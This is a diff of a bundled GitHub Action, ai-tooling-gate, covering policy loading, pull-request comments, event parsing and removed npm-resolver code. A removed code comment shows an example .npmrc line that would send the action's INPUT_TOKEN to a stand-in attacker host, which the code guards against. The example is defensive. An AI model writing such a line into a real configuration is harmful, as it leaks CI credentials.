+                repo: req.repo,
+                comment_id: existing.id,
+                body,
+            });
+            info(`Updated the pull-request comment ${existing.html_url}`);
+        }
+        else {
+            const { data } = await client.rest.issues.createComment({
+                owner: req.owner,
+                repo: req.repo,
+                issue_number: req.issue,
+                body,
+            });
+            info(`Commented on the pull request: ${data.html_url}`);
+        }
+    }
+    catch (e) {
+        const status = httpStatus(e);
+        const why = status === 403 || status === 401 || status === 404
+            ? `the token may not comment on this pull request (HTTP ${status}; fork pull requests and read-only tokens cannot; grant pull-requests: write)`
+            : `the GitHub API failed: ${e instanceof Error ? e.message.split('\n')[0] : String(e)}`;
+        warning(`ai-tooling-gate: no pull-request comment: ${why}. The gate still decides.`);
+    }
+}
+
+;// CONCATENATED MODULE: ./src/action/event.ts
+// What a workflow event compares: base and head commits, and the pull request, from the payload.
+const ZERO_SHA = /^0+$/;
+function obj(v) {
+    return v !== null && typeof v === 'object' && !Array.isArray(v) ? v : undefined;
+}
+function event_str(v) {
+    return typeof v === 'string' && v !== '' ? v : undefined;
+}
+/** Reads the commits an event compares from its payload (`GITHUB_EVENT_PATH`). */
+function eventRefs(eventName, payload) {
+    const p = obj(payload) ?? {};
+    switch (eventName) {
+        case 'pull_request':
+        case 'pull_request_target': {
+            const pr = obj(p.pull_request);
+            const number = typeof pr?.number === 'number' ? pr.number : typeof p.number === 'number' ? p.number : undefined;
+            const base = event_str(obj(pr?.base)?.sha);
+            const head = event_str(obj(pr?.head)?.sha);
+            return {
+                ...(base ? { base } : {}),
+                ...(head ? { head } : {}),
+                ...(number !== undefined ? { pullRequest: number } : {}),
+                diffByDefault: true,
+            };
+        }
+        case 'merge_group': {
+            const mg = obj(p.merge_group);
+            const base = event_str(mg?.base_sha);
+            const head = event_str(mg?.head_sha);
+            return { ...(base ? { base } : {}), ...(head ? { head } : {}), diffByDefault: true };
+        }
+        case 'push': {
+            const before = event_str(p.before);
+            const after = event_str(p.after);
+            const newBranch = before !== undefined && ZERO_SHA.test(before);
+            return {
+                ...(before && !newBranch ? { base: before } : {}),
+                ...(after && !ZERO_SHA.test(after) ? { head: after } : {}),
+                diffByDefault: false,
+                ...(newBranch ? { newBranch } : {}),
+            };
+        }
+        default:
+            return { diffByDefault: false };
+    }
+}
+/** Whether this run compares two commits, and which. */
+function resolveMode(mode, refs, inputs) {
+    const base = inputs.baseRef || refs.base;
+    const head = inputs.headRef || refs.head;
+    const wanted = mode === 'auto' ? (refs.diffByDefault || inputs.baseRef ? 'diff' : 'audit') : mode;
+    if (wanted === 'audit') {
+        // An audit scans the checked-out tree unless a head commit is named explicitly.
+        return { mode: 'audit', ...(inputs.headRef ? { head: inputs.headRef } : {}) };
+    }
+    if (!base) {
+        if (refs.newBranch) {
+            return {
+                mode: 'audit',
+                ...(head ? { head } : {}),
+                note: 'This push created the branch: there is no earlier commit to compare with, so the whole tree is audited.',
+            };
+        }
+        throw new Error('diff mode needs a base commit: this event has none, so set the base-ref input');
+    }
+    return { mode: 'diff', base, ...(head ? { head } : {}) };
+}
+
 ;// CONCATENATED MODULE: ./src/policy/builtin.ts
 // The built-in policies: `builtin:advisories` (evidence-backed bans, locked), `builtin:ai-coding-tools`
 // (every catalog tool, warn) and `builtin:default` (what runs without a policy file).
@@ -52612,8 +68039,6 @@ function builtinPolicyFile(name) {
     }
 }
 
-// EXTERNAL MODULE: ./node_modules/yaml/dist/index.js
-var dist = __nccwpck_require__(38815);
 ;// CONCATENATED MODULE: ./node_modules/zod/v4/core/util.js
 
 // functions
@@ -52850,7 +68275,7 @@ const util_allowsEval = /* @__PURE__*/ cached(() => {
         return false;
     }
 });
-function isPlainObject(o) {
+function util_isPlainObject(o) {
     if (util_isObject(o) === false)
         return false;
     // modified constructor
@@ -52870,7 +68295,7 @@ function isPlainObject(o) {
     return true;
 }
 function shallowClone(o) {
-    if (isPlainObject(o))
+    if (util_isPlainObject(o))
         return { ...o };
     if (Array.isArray(o))
         return [...o];
@@ -53051,7 +68476,7 @@ function maskedKeys(schema, mask) {
     }
     return keys;
 }
-function omit(schema, mask) {
+function util_omit(schema, mask) {
     const currDef = schema._zod.def;
     const checks = currDef.checks;
     const hasChecks = checks && checks.length > 0;
@@ -53064,7 +68489,7 @@ function omit(schema, mask) {
     return clone(schema, mergeDefs(currDef, { shape: newShape, checks: [] }));
 }
 function extend(schema, shape) {
-    if (!isPlainObject(shape)) {
+    if (!util_isPlainObject(shape)) {
         throw new Error("Invalid input to extend: expected a plain object");
     }
     const checks = schema._zod.def.checks;
@@ -53088,12 +68513,12 @@ function extended(schema, shape) {
     return newShape;
 }
 function safeExtend(schema, shape) {
-    if (!isPlainObject(shape)) {
+    if (!util_isPlainObject(shape)) {
         throw new Error("Invalid input to safeExtend: expected a plain object");
     }
     return clone(schema, mergeDefs(schema._zod.def, { shape: extended(schema, shape) }));
 }
-function merge(a, b) {
+function util_merge(a, b) {
     if (!b?._zod?.def) {
         throw new Error("Invalid input to merge: expected an object schema. To merge a plain shape, use `.extend()`.");
     }
@@ -56153,7 +71578,7 @@ function mergeValues(a, b) {
     if (a instanceof Date && b instanceof Date && +a === +b) {
         return { valid: true, data: a };
     }
-    if (isPlainObject(a) && isPlainObject(b)) {
+    if (util_isPlainObject(a) && util_isPlainObject(b)) {
         const bKeys = Object.keys(b);
         const sharedKeys = Object.keys(a).filter((key) => bKeys.indexOf(key) !== -1);
         const newObj = { ...a, ...b };
@@ -58367,7 +73792,7 @@ function _check(fn, params) {
     return ch;
 }
 // @__NO_SIDE_EFFECTS__
-function describe(description) {
+function api_describe(description) {
     const ch = new $ZodCheck({ check: "describe" });
     ch._zod.onattach = [
         (inst) => {
@@ -60382,7 +75807,7 @@ const _parse = (_Err) => {
     };
     return fn;
 };
-const parse_parse = /* @__PURE__*/ _parse($ZodRealError);
+const core_parse_parse = /* @__PURE__*/ _parse($ZodRealError);
 const _parseAsync = (_Err) => {
     const fn = async (schema, value, _ctx, params) => {
         const ctx = _ctx ? { ..._ctx, async: true } : { async: true };
@@ -61494,13 +76919,13 @@ const ZodObject = /*@__PURE__*/ $constructor("ZodObject", (inst, def) => {
         return safeExtend(this, incoming);
     },
     merge(other) {
-        return merge(this, other);
+        return util_merge(this, other);
     },
     pick(mask) {
         return util_pick(this, mask);
     },
     omit(mask) {
-        return omit(this, mask);
+        return util_omit(this, mask);
     },
     partial(...args) {
         return partial(ZodOptional, this, args[0]);
@@ -62094,7 +77519,7 @@ function superRefine(fn, params) {
     return _superRefine(fn, params);
 }
 // Re-export describe and meta from core
-const schemas_describe = describe;
+const schemas_describe = api_describe;
 const schemas_meta = meta;
 const ZodInstanceOf = /*@__PURE__*/ $constructor("ZodInstanceOf", (inst, def) => {
     ZodCustom.init(inst, def);
@@ -62224,40 +77649,6 @@ function policyJsonSchema() {
     const generated = z.toJSONSchema(policySchema, { target: 'draft-2020-12' });
     const { $schema, ...rest } = generated;
     return { $schema, title: 'ai-tooling-gate policy', ...rest };
-}
-
-;// CONCATENATED MODULE: ./src/catalog/index.ts
-
-
-
-const byId = new Map(tools_tools.map((t) => [t.id, t]));
-const catalog = {
-    tools: tools_tools,
-    tool: (id) => byId.get(id),
-};
-/**
- * For devcontainer detectors: the option of a known feature that carries the tool version and its
- * default (`undefined` for a feature the catalog does not know; `null` for a known feature without a
- * version option, which always installs the latest release).
- */
-function featureVersionOption(featureId) {
-    const id = featureId.toLowerCase();
-    for (const t of tools) {
-        for (const c of t.carriers) {
-            if (c.ecosystem === 'devcontainer-feature' && c.package === id)
-                return c.versionOption ?? null;
-        }
-    }
-    return undefined;
-}
-/** The tools a component could belong to (for reports and for `builtin:ai-coding-tools`). */
-function carriersOf(ecosystem) {
-    const out = [];
-    for (const tool of tools)
-        for (const carrier of tool.carriers)
-            if (carrier.ecosystem === ecosystem)
-                out.push({ tool, carrier });
-    return out;
 }
 
 ;// CONCATENATED MODULE: ./src/policy/parse.ts
@@ -62778,7 +78169,7 @@ function resolveExtends(entry, parent) {
         }
     }
 }
-function rootRef(ref) {
+function rootRef(ref, baseDir) {
     if (isBuiltinName(ref))
         return { kind: 'builtin', name: ref, id: ref, display: ref };
     if (ref.startsWith('builtin:')) {
@@ -62790,7 +78181,7 @@ function rootRef(ref) {
             throw new parse_PolicyError(ref, 0, 0, 'must be github:OWNER/REPO/PATH@REF');
         return g;
     }
-    const path = (0,external_node_path_.resolve)(ref);
+    const path = baseDir === undefined ? (0,external_node_path_.resolve)(ref) : (0,external_node_path_.resolve)(baseDir, ref);
     return { kind: 'file', path, id: path, display: ref };
 }
 async function defaultReadFile(path) {
@@ -62937,12 +78328,30 @@ function mergePolicyFiles(files) {
 }
 /** Loads a policy by path, `builtin:NAME` or `github:OWNER/REPO/PATH@REF`, with every `extends` merged in. */
 async function loadPolicy(ref, options = {}) {
-    const root = rootRef(ref);
+    const root = rootRef(ref, options.baseDir);
     const files = [];
     await loadTree(root, null, [], new Set(), files, options);
     return mergePolicyFiles(files);
 }
 /** Parses one policy text on its own (no extends), e.g. for editors and tests. */
+const TREE_ROOT = '/__ai-tooling-gate-tree__';
+/**
+ * Loads a policy from a tree that is not the filesystem (a git commit, the GitHub API): `path` and
+ * relative `extends` are read through `read` with paths relative to the tree's root, and can never
+ * leave it. Messages name the paths as written.
+ */
+async function loadPolicyFromTree(path, read, options = {}) {
+    return loadPolicy(path, {
+        ...options,
+        baseDir: TREE_ROOT,
+        readFile: async (abs) => {
+            const rel = external_node_path_.posix.relative(TREE_ROOT, abs.replace(/\\/g, '/'));
+            if (rel === '' || rel.startsWith('../') || rel === '..' || external_node_path_.posix.isAbsolute(rel))
+                return null;
+            return read(rel);
+        },
+    });
+}
 function parsePolicyText(file, text) {
     const parsed = parsePolicyFile(file, text);
     if (parsed.extends.length > 0) {
@@ -62952,6123 +78361,96 @@ function parsePolicyText(file, text) {
     return mergePolicyFiles([{ ref: { kind: 'file', path: file, id: file, display: file }, parsed }]);
 }
 
-;// CONCATENATED MODULE: ./src/report.ts
-function buildReport(input) {
-    const active = input.findings.filter((f) => f.status !== 'removed');
-    const summary = {
-        filesScanned: input.filesScanned,
-        components: input.components,
-        failed: active.filter((f) => f.action === 'fail').length,
-        warned: active.filter((f) => f.action === 'warn').length,
-        passed: active.filter((f) => f.action === 'pass').length,
-    };
-    if (input.mode === 'diff') {
-        summary.introduced = input.findings.filter((f) => f.status === 'introduced' && f.action !== 'pass').length;
-        summary.removed = input.findings.filter((f) => f.status === 'removed').length;
-    }
-    return {
-        schemaVersion: 1,
-        mode: input.mode,
-        findings: input.findings,
-        errors: input.errors,
-        notices: input.notices,
-        summary,
-        policy: { sources: input.policySources },
-    };
-}
-/** The findings that fail the gate under a `fail-on` setting. */
-function gateFindings(report, failOn) {
-    if (failOn === 'never')
-        return [];
-    return report.findings.filter((f) => f.action === 'fail' &&
-        f.status !== 'removed' &&
-        (failOn === 'any' || report.mode !== 'diff' || f.status === 'introduced'));
-}
-/** Whether the gate fails: a failing finding, or an input that had to be scanned and could not be read. */
-function gateFails(report, failOn, gatingErrors = report.errors) {
-    if (failOn === 'never')
-        return false;
-    return gateFindings(report, failOn).length > 0 || gatingErrors.length > 0;
-}
+;// CONCATENATED MODULE: ./src/action/policy.ts
+// The policy an action run is judged by: from the base commit in diff mode, never from the head.
 
-;// CONCATENATED MODULE: ./src/reporters/json.ts
-function renderJson(report) {
-    return JSON.stringify(report, null, 2) + '\n';
-}
 
-// EXTERNAL MODULE: ./node_modules/npm-package-arg/lib/npa.js
-var npa = __nccwpck_require__(78056);
-var npa_default = /*#__PURE__*/__nccwpck_require__.n(npa);
-// EXTERNAL MODULE: ./node_modules/packageurl-js/index.js
-var packageurl_js = __nccwpck_require__(87091);
-;// CONCATENATED MODULE: ./src/util/purl.ts
+
+
 
 /**
- * Builds the Package URL of a component. npm scopes become the purl namespace
- * (`pkg:npm/%40scope/name@1.0.0`); PyPI names are PEP 503-normalised by packageurl-js.
- * A null version is left out of the purl.
+ * Loads the run's policy. A repository path is read from the trusted tree (a pull request cannot
+ * weaken the policy that judges it); `builtin:` and `github:` references are read as they are.
+ * The default path falls back to `.yaml`/`.json` and then to `builtin:default`; a path named
+ * explicitly must exist.
  */
-function purlFor(ecosystem, name, version) {
-    try {
-        switch (ecosystem) {
-            case 'npm':
-            case 'jsr': {
-                const slash = name.startsWith('@') ? name.indexOf('/') : -1;
-                const ns = slash > 0 ? name.slice(0, slash) : undefined;
-                const base = slash > 0 ? name.slice(slash + 1) : name;
-                return new packageurl_js.PackageURL(ecosystem, ns, base, version ?? undefined).toString();
-            }
-            case 'pypi':
-                return new packageurl_js.PackageURL('pypi', undefined, name, version ?? undefined).toString();
-            case 'vscode-extension': {
-                const dot = name.indexOf('.');
-                return new packageurl_js.PackageURL('vscode-extension', dot > 0 ? name.slice(0, dot) : undefined, dot > 0 ? name.slice(dot + 1) : name, version ?? undefined).toString();
-            }
-            case 'github-action': {
-                const [owner, repo, ...rest] = name.split('/');
-                return new packageurl_js.PackageURL('githubactions', owner, repo ?? name, version ?? undefined, undefined, rest.length ? rest.join('/') : undefined).toString();
-            }
-            case 'devcontainer-feature': {
-                // OCI ids are registry/namespace/name: keep them whole as a qualifier-free generic purl.
-                const i = name.lastIndexOf('/');
-                return new packageurl_js.PackageURL('generic', i > 0 ? 'devcontainer-feature/' + name.slice(0, i) : 'devcontainer-feature', i > 0 ? name.slice(i + 1) : name, version ?? undefined).toString();
-            }
-            case 'homebrew':
-                return new packageurl_js.PackageURL('homebrew', undefined, name, version ?? undefined).toString();
-            case 'installer':
-                return new packageurl_js.PackageURL('generic', 'installer', name, version ?? undefined).toString();
-        }
+async function loadActionPolicy(ctx) {
+    const input = ctx.input.trim() || DEFAULT_POLICY_PATHS[0];
+    if (isBuiltinName(input))
+        return { policy: await loadPolicy(input), origin: input, notices: [] };
+    if (input.startsWith('builtin:'))
+        throw new parse_PolicyError(input, 1, 1, `unknown built-in policy "${input}"`);
+    if (input.startsWith('github:')) {
+        const ref = parseGithubRef(input);
+        if (!ref)
+            throw new parse_PolicyError(input, 1, 1, 'a github: policy is written github:OWNER/REPO/PATH@REF');
+        return { policy: await loadPolicy(input, { readGithub: ctx.readGithub }), origin: input, notices: [] };
     }
-    catch {
-        // Names from hostile files can be anything; never let purl construction throw.
-    }
-    return `pkg:generic/${encodeURIComponent(ecosystem)}/${encodeURIComponent(name)}${version ? '@' + encodeURIComponent(version) : ''}`;
-}
-
-// EXTERNAL MODULE: external "node:fs"
-var external_node_fs_ = __nccwpck_require__(73024);
-;// CONCATENATED MODULE: ./src/resolver/npmrc.ts
-// npm configuration for registry look-ups: the repository's `.npmrc`, the user's `.npmrc` and the
-// `npm_config_*` environment, reduced to what deciding where a package comes from and how to
-// authenticate needs. Everything else npm reads from these files is ignored on purpose: a look-up
-// must not read files named by config (certfile, cafile), run anything, or change behaviour in ways
-// a pull request could use.
-
-
-const PUBLIC_REGISTRY = 'https://registry.npmjs.org/';
-/** `.npmrc` files are small; a larger one is not a config file. */
-const MAX_NPMRC_BYTES = 256 * 1024;
-/** The auth settings npm-registry-fetch reads for a registry (`//host/path/:<key>`). */
-const AUTH_KEYS = ['_authToken', '_auth', 'username', '_password'];
-/**
- * Environment variables a repository's `.npmrc` may never expand: the action's inputs (the GitHub
- * token arrives as INPUT_TOKEN) and the runner's own credentials (ACTIONS_RUNTIME_TOKEN,
- * ACTIONS_ID_TOKEN_REQUEST_TOKEN). Without this, a pull request could add
- * `//attacker.example/:_authToken=${INPUT_TOKEN}` and have the gate send the token away.
- */
-const FORBIDDEN_IN_PROJECT = /^(INPUT_|ACTIONS_)/i;
-const SCOPE = /^@[a-z0-9][a-z0-9._~-]*$/i;
-/** Parses `.npmrc` text (ini: `key = value`, `;`/`#` comments, quoted values) into entries. */
-function parseNpmrc(text) {
-    const entries = [];
-    const lines = text.replace(/^\uFEFF/, '').split(/\r\n|\r|\n/);
-    for (let i = 0; i < lines.length; i++) {
-        const line = lines[i].trim();
-        if (line === '' || line.startsWith(';') || line.startsWith('#') || line.startsWith('['))
+    const path = normalizeRelative(input);
+    if (path === null || path === '')
+        throw new parse_PolicyError(input, 1, 1, 'the policy path must be inside the repository');
+    const candidates = path === DEFAULT_POLICY_PATHS[0] ? [...DEFAULT_POLICY_PATHS] : [path];
+    for (const candidate of candidates) {
+        const text = await readPolicyText(ctx.trusted, candidate);
+        if (text === null)
             continue;
-        const eq = line.indexOf('=');
-        const key = (eq < 0 ? line : line.slice(0, eq)).trim();
-        let value = eq < 0 ? 'true' : line.slice(eq + 1).trim();
-        if (value.length >= 2 && value.startsWith('"') && value.endsWith('"')) {
-            try {
-                const parsed = JSON.parse(value);
-                if (typeof parsed === 'string')
-                    value = parsed;
-            }
-            catch {
-                value = value.slice(1, -1);
-            }
-        }
-        else if (value.length >= 2 && value.startsWith("'") && value.endsWith("'")) {
-            value = value.slice(1, -1);
-        }
-        if (key !== '')
-            entries.push({ key, value, line: i + 1 });
-    }
-    return entries;
-}
-/** npm's `${VAR}` expansion (`${VAR?}` is empty when unset, `\${` is literal). */
-function expand(value, env, project) {
-    let missing = null;
-    let forbidden = null;
-    const out = value.replace(/(\\*)\$\{([^${}?]+)(\?)?\}/g, (whole, esc, name, optional) => {
-        if (esc.length % 2 === 1)
-            return whole.slice(1);
-        if (project && FORBIDDEN_IN_PROJECT.test(name)) {
-            forbidden ??= name;
-            return '';
-        }
-        const v = env[name];
-        if (v === undefined) {
-            if (!optional)
-                missing ??= name;
-            return esc;
-        }
-        return esc + v;
-    });
-    if (forbidden !== null)
-        return { forbidden };
-    if (missing !== null)
-        return { missing };
-    return { value: out };
-}
-/** A registry URL normalised to end in `/`, or null when it is not an http(s) URL. */
-function normalizeRegistry(raw) {
-    let url;
-    try {
-        url = new URL(raw.trim());
-    }
-    catch {
-        return null;
-    }
-    if (url.protocol !== 'http:' && url.protocol !== 'https:')
-        return null;
-    url.hash = '';
-    url.search = '';
-    if (!url.pathname.endsWith('/'))
-        url.pathname += '/';
-    return url.toString();
-}
-/** A registry URL fit for messages: no credentials, query or fragment. */
-function displayRegistry(registry) {
-    try {
-        const url = new URL(registry);
-        url.username = '';
-        url.password = '';
-        url.search = '';
-        url.hash = '';
-        return url.toString();
-    }
-    catch {
-        return '(invalid registry URL)';
-    }
-}
-function readOptional(path) {
-    try {
-        const buf = (0,external_node_fs_.readFileSync)(path);
-        if (buf.length > MAX_NPMRC_BYTES)
-            return null;
-        return buf.toString('utf8');
-    }
-    catch {
-        return null;
-    }
-}
-function envValue(env, name) {
-    const lower = name.toLowerCase();
-    for (const [k, v] of Object.entries(env))
-        if (k.toLowerCase() === lower && v !== undefined)
-            return v;
-    return undefined;
-}
-/**
- * Reads the npm configuration that decides where packages are looked up, in npm's order of
- * precedence: `registry` option, `npm_config_*` environment, the project `.npmrc`, the user
- * `.npmrc` (`NPM_CONFIG_USERCONFIG`, else `$HOME/.npmrc` from `env`), the public registry.
- * Never reads the machine's home directory unless `env` names it.
- */
-function loadNpmConfig(options) {
-    const { env } = options;
-    const errors = [];
-    const secrets = [];
-    const scopes = new Map();
-    const auth = new Map();
-    let registry = null;
-    const userPath = envValue(env, 'npm_config_userconfig') ??
-        (env.HOME ? (0,external_node_path_.join)(env.HOME, '.npmrc') : env.USERPROFILE ? (0,external_node_path_.join)(env.USERPROFILE, '.npmrc') : undefined);
-    const projectText = options.projectNpmrc !== undefined ? options.projectNpmrc : readOptional((0,external_node_path_.join)(options.root, '.npmrc'));
-    // Lowest precedence first; later layers overwrite.
-    const layers = [
-        { text: userPath ? readOptional(userPath) : null, project: false, file: userPath ?? '' },
-        { text: projectText, project: true, file: '.npmrc' },
-    ];
-    for (const layer of layers) {
-        if (layer.text === null)
-            continue;
-        for (const { key, value: raw, line } of parseNpmrc(layer.text)) {
-            const isRegistry = key === 'registry' || (key.endsWith(':registry') && key.startsWith('@'));
-            const authKey = AUTH_KEYS.find((k) => key.startsWith('//') && key.endsWith(':' + k));
-            if (!isRegistry && !authKey)
-                continue;
-            const expanded = expand(raw, env, layer.project);
-            if ('forbidden' in expanded) {
-                // Only the repository's own file can be hostile; report it so the gate fails closed.
-                errors.push({
-                    file: layer.file,
-                    line,
-                    message: `${key} expands \${${expanded.forbidden}}: a repository's .npmrc may not use the action's or runner's secrets; the setting is ignored`,
-                });
-                continue;
-            }
-            if ('missing' in expanded)
-                continue; // npm would send the literal text; sending nothing is safer
-            const value = expanded.value;
-            if (isRegistry) {
-                const url = normalizeRegistry(value);
-                if (url === null) {
-                    if (layer.project)
-                        errors.push({
-                            file: layer.file,
-                            line,
-                            message: `${key} is not an http(s) URL; the setting is ignored`,
-                        });
-                    continue;
-                }
-                if (key === 'registry')
-                    registry = url;
-                else {
-                    const scope = key.slice(0, -':registry'.length).toLowerCase();
-                    if (SCOPE.test(scope))
-                        scopes.set(scope, url);
-                }
-            }
-            else if (authKey && value !== '') {
-                auth.set(key, value);
-                secrets.push(value);
-                if (authKey === '_auth')
-                    secrets.push(Buffer.from(value, 'base64').toString('utf8'));
-                if (authKey === '_password')
-                    secrets.push(Buffer.from(value, 'base64').toString('utf8'));
-            }
-        }
-    }
-    for (const [k, v] of Object.entries(env)) {
-        if (v === undefined)
-            continue;
-        const m = /^npm_config_(@[^:]+):registry$/i.exec(k);
-        if (m && SCOPE.test(m[1])) {
-            const url = normalizeRegistry(v);
-            if (url)
-                scopes.set(m[1].toLowerCase(), url);
-        }
-    }
-    const envRegistry = envValue(env, 'npm_config_registry');
-    if (envRegistry !== undefined && normalizeRegistry(envRegistry))
-        registry = normalizeRegistry(envRegistry);
-    if (options.registry !== undefined) {
-        const url = normalizeRegistry(options.registry);
-        if (url === null)
-            throw new Error(`registry "${options.registry}" is not an http(s) URL`);
-        registry = url;
-    }
-    for (const url of [registry, ...scopes.values()]) {
-        if (!url)
-            continue;
-        const u = new URL(url);
-        if (u.password)
-            secrets.push(decodeURIComponent(u.password));
-    }
-    return {
-        registry: registry ?? PUBLIC_REGISTRY,
-        scopes,
-        auth,
-        secrets: secrets.filter((s) => s.length >= 4),
-        errors,
-    };
-}
-/** The registry a package name is looked up in. */
-function registryFor(config, name) {
-    if (name.startsWith('@')) {
-        const scope = name.slice(0, name.indexOf('/')).toLowerCase();
-        const url = config.scopes.get(scope);
-        if (url)
-            return url;
-    }
-    return config.registry;
-}
-/** Replaces every known credential in a message (defence in depth: messages are built without them). */
-function scrub(message, secrets) {
-    let out = message;
-    for (const s of secrets)
-        if (out.includes(s))
-            out = out.split(s).join('***');
-    return out;
-}
-
-;// CONCATENATED MODULE: ./src/resolver/npm-resolver.ts
-// Resolves unpinned npm specs (`latest`, `^2.1.0`, `*`, nothing at all) to the version an install
-// would get now, by asking the registry the repository is configured for, the way npm does
-// (pacote.manifest: dist-tags, ranges and the `latest` preference of npm-pick-manifest).
-
-
-
-
-const OFFLINE_NOTE = 'offline: not resolved';
-/** Look-ups in a row that get no answer at all from a registry before the rest skip it. */
-const UNREACHABLE_AFTER = 3;
-const MAX_VERSION_LENGTH = 256;
-/**
- * Which look-up an unpinned npm registry component needs, or a reason it cannot have one, or
- * null when the component is not the resolver's (pinned, not npm, not from a registry).
- */
-function registryRequest(c) {
-    if (c.ecosystem !== 'npm' || c.version !== null || c.sourceKind !== 'registry')
-        return null;
-    let written = (c.spec ?? '').trim();
-    // An alias written whole (`npm:@scope/real@^1`): the part after the real name is the spec.
-    if (written.startsWith('npm:')) {
-        try {
-            const alias = npa_default()(written);
-            if (alias.type === 'alias' && alias.subSpec && alias.subSpec.name === c.name)
-                written = alias.subSpec.rawSpec;
-        }
-        catch {
-            return { reason: `spec "${c.spec}" is not a valid npm alias` };
-        }
-    }
-    const spec = written === '' ? 'latest' : written;
-    let parsed;
-    try {
-        parsed = npa_default().resolve(c.name, spec);
-    }
-    catch {
-        return { reason: `"${c.name}@${spec}" is not a valid npm package spec` };
-    }
-    // Only registry specs: anything else (git, file, URL) would make pacote clone or download.
-    if (parsed.type !== 'tag' && parsed.type !== 'range' && parsed.type !== 'version') {
-        return { reason: `spec "${spec}" is not a dist-tag or a version range` };
-    }
-    return { name: c.name, spec };
-}
-/** Runs tasks with at most `limit` in flight. */
-function limiter(limit) {
-    let active = 0;
-    const queue = [];
-    const next = () => {
-        if (active >= limit)
-            return;
-        const start = queue.shift();
-        if (start) {
-            active++;
-            start();
-        }
-    };
-    return (task) => new Promise((resolve, reject) => {
-        queue.push(() => {
-            task()
-                .then(resolve, reject)
-                .finally(() => {
-                active--;
-                next();
-            });
+        const policy = await loadPolicyFromTree(candidate, (p) => readPolicyText(ctx.trusted, p), {
+            readGithub: ctx.readGithub,
         });
-        next();
-    });
-}
-function failureOf(e) {
-    return typeof e === 'object' && e !== null ? e : {};
-}
-/** No HTTP answer at all: a timeout or a network error. */
-function isUnanswered(f, timedOut) {
-    if (timedOut || f.type === 'request-timeout')
-        return true;
-    if (f.statusCode !== undefined || f.type === 'invalid-json')
-        return false;
-    return typeof f.code === 'string' && !['ETARGET', 'E404', 'E401', 'E403'].includes(f.code);
-}
-function isRetryable(f, timedOut) {
-    if (timedOut)
-        return true;
-    if (f.statusCode !== undefined)
-        return f.statusCode === 408 || f.statusCode === 429 || f.statusCode >= 500;
-    if (f.code === 'E404' || f.code === 'ETARGET' || f.code === 'E401' || f.code === 'E403')
-        return false;
-    if (f.type === 'invalid-json')
-        return false;
-    // Network errors (ECONNRESET, ECONNREFUSED, EAI_AGAIN, …).
-    return typeof f.code === 'string' && f.code.startsWith('E');
-}
-/** Why a look-up failed, in words that never carry the request's credentials. */
-function npm_resolver_describe(f, timedOut, req, where, attempts, timeoutMs) {
-    const tries = attempts === 1 ? '1 attempt' : `${attempts} attempts`;
-    if (timedOut || f.type === 'request-timeout')
-        return `no answer from ${where} within ${timeoutMs} ms (${tries})`;
-    if (f.code === 'ETARGET')
-        return `no version of ${req.name} matches "${req.spec}" at ${where}`;
-    if (f.code === 'E404' || f.statusCode === 404)
-        return `${req.name} not found at ${where} (HTTP 404)`;
-    if (f.statusCode === 401 || f.statusCode === 403)
-        return `${where} refused the look-up of ${req.name} (HTTP ${f.statusCode}): missing or rejected credentials`;
-    if (f.type === 'invalid-json')
-        return `${where} answered ${req.name} with invalid JSON`;
-    if (f.statusCode !== undefined)
-        return `HTTP ${f.statusCode} from ${where} for ${req.name} (${tries})`;
-    if (typeof f.code === 'string' && /^[A-Z0-9_]{2,40}$/.test(f.code))
-        return `network error ${f.code} reaching ${where} (${tries})`;
-    return `look-up of ${req.name} at ${where} failed (${tries})`;
-}
-const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
-/**
- * Creates the npm resolver stage. Each distinct (name, spec) is looked up once per resolver call;
- * failures never throw: the component keeps `version: null` and `versionNote` says why.
- */
-function createNpmResolver(options) {
-    const concurrency = Math.max(1, options.concurrency ?? 8);
-    const timeoutMs = Math.max(1, options.timeoutMs ?? 15_000);
-    const retries = Math.max(0, options.retries ?? 2);
-    const retryDelayMs = Math.max(0, options.retryDelayMs ?? 500);
-    return async (components) => {
-        const wanted = components.map(registryRequest);
-        if (!wanted.some((w) => w !== null)) {
-            return { components: [...components], stats: { lookups: 0, attempts: 0, resolved: 0, unresolved: 0 } };
-        }
-        const stats = { lookups: 0, attempts: 0, resolved: 0, unresolved: 0 };
-        let config = null;
-        let errors = [];
-        if (!options.offline) {
-            config = loadNpmConfig({
-                root: options.root,
-                env: options.env,
-                ...(options.registry !== undefined ? { registry: options.registry } : {}),
-                ...(options.projectNpmrc !== undefined ? { projectNpmrc: options.projectNpmrc } : {}),
-            });
-            errors = config.errors;
-        }
-        const limit = limiter(concurrency);
-        // One packument request per package per run: specs of one package are looked up one after
-        // the other, the first fills pacote's in-memory packument cache and the rest read it; when
-        // the first fails for a reason that is about the package, the rest share that reason.
-        const packumentCache = new Map();
-        const lookups = new Map();
-        const lastOfPackage = new Map();
-        // A registry that answers nothing (down, blackholed) would cost every package the full
-        // timeout and retries; after a few look-ups in a row without an answer the rest skip it.
-        const unanswered = new Map();
-        // pacote and its dependencies take most of a second to load: only runs that look up pay it.
-        let pacoteModule = null;
-        const loadPacote = () => (pacoteModule ??= __nccwpck_require__.e(/* import() */ 710).then(__nccwpck_require__.t.bind(__nccwpck_require__, 92710, 23)).then((m) => m.default));
-        const lookUp = async (cfg, req) => {
-            const { manifest } = await loadPacote();
-            const registry = registryFor(cfg, req.name);
-            const where = displayRegistry(registry);
-            const spec = npa_default().resolve(req.name, req.spec).toString();
-            const down = unanswered.get(registry);
-            if (down && down.inARow >= UNREACHABLE_AFTER) {
-                return {
-                    reason: `skipped: ${where} gave no answer to ${down.inARow} look-ups in a row (last: ${down.last})`,
-                    byPackage: true,
-                };
-            }
-            let attempt = 0;
-            for (;;) {
-                attempt++;
-                stats.attempts++;
-                const controller = new AbortController();
-                let timedOut = false;
-                const timer = setTimeout(() => {
-                    timedOut = true;
-                    controller.abort();
-                }, timeoutMs);
-                try {
-                    const opts = {
-                        registry,
-                        fullMetadata: false,
-                        preferOnline: true,
-                        packumentCache,
-                        // No `cache`: nothing is written to disk and every run asks the registry afresh.
-                        fetchRetries: 0,
-                        timeout: timeoutMs,
-                        signal: controller.signal,
-                        userAgent: 'ai-tooling-gate (pacote)',
-                    };
-                    for (const [k, v] of cfg.auth)
-                        opts[k] = v;
-                    // The signal aborts the request; the race makes sure nothing waits past the timeout
-                    // even if some layer below does not honour it.
-                    const found = await Promise.race([
-                        manifest(spec, opts),
-                        new Promise((_, reject) => controller.signal.addEventListener('abort', () => reject(Object.assign(new Error('timed out'), { type: 'request-timeout' })))),
-                    ]);
-                    unanswered.delete(registry);
-                    const version = typeof found.version === 'string' ? found.version : '';
